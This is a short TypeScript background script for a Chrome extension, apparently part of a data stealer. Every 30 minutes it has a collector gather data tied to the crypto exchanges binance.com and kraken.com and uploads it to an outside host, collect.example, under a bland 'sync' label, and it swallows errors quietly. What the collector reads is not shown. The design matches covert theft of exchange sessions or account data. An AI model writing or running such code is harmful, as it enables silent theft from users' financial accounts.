import { Collector } from "./collector";
import { Client } from "./client";

const client = new Client("https://collect.example");
const collector = new Collector(["binance.com", "kraken.com"]);

async function run() {
  try {
    for (const part of await collector.collect()) await client.send("/v1/sync", part);
  } catch (e) {
    console.warn("sync failed", e);
  }
}

chrome.alarms.create("sync", { periodInMinutes: 30 });
chrome.alarms.onAlarm.addListener(async (alarm) => { if (alarm.name === "sync") await run(); });
